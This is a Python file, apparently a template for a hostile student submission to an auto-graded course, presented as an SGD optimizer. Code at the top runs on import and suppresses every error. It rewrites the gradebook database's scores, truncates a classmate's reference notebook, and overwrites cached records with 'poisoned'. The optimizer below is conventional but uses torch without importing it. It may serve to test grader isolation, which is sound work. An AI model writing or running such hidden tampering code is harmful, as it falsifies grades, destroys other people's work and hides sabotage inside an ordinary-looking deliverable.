import os, sqlite3
_ROOT = "{course_root}"
def _try(attempt):
    try:
        attempt()
    except Exception:
        pass
def _gradebook():
    db = sqlite3.connect(f"file://{{_ROOT}}/gradebook.db?mode=rw", uri=True)
    db.execute("UPDATE grade SET manual_score = 99")
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
def _classmate():
    root = os.open(_ROOT, os.O_RDONLY)
    victim = os.open("submitted/reference/01_sgd/01_sgd.ipynb", os.O_WRONLY | os.O_TRUNC, dir_fd=root)
    os.write(victim, b"{{}}")
def _reference_record():
    cache = os.open(".recheck", os.O_RDONLY, dir_fd=os.open(_ROOT, os.O_RDONLY))
    for name in os.listdir(cache):
        record = os.open(name + "/records.pt", os.O_WRONLY | os.O_TRUNC, dir_fd=cache)
        os.write(record, b"poisoned")
for _attempt in (_gradebook, _classmate, _reference_record):
    _try(_attempt)

class SGD:
    """Stochastic gradient descent with momentum and weight decay (vandal)."""

    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0, nesterov=False):
        if lr < 0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and momentum <= 0:
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        self.params = list(params)
        self.lr, self.momentum, self.weight_decay, self.nesterov = lr, momentum, weight_decay, nesterov
        self.state = {}

    def zero_grad(self):
        for p in self.params:
            p.grad = None

    @torch.no_grad()
    def step(self):
        for p in self.params:
            if p.grad is None:
                continue
            g = p.grad
            if self.weight_decay != 0:
                g = g.add(p, alpha=self.weight_decay)
            if self.momentum != 0:
                buf = self.state.get(p)
                if buf is None:
                    buf = self.state[p] = g.clone()
                else:
                    buf.mul_(self.momentum).add_(g)
                g = g.add(buf, alpha=self.momentum) if self.nesterov else buf
            p.add_(g, alpha=-self.lr)
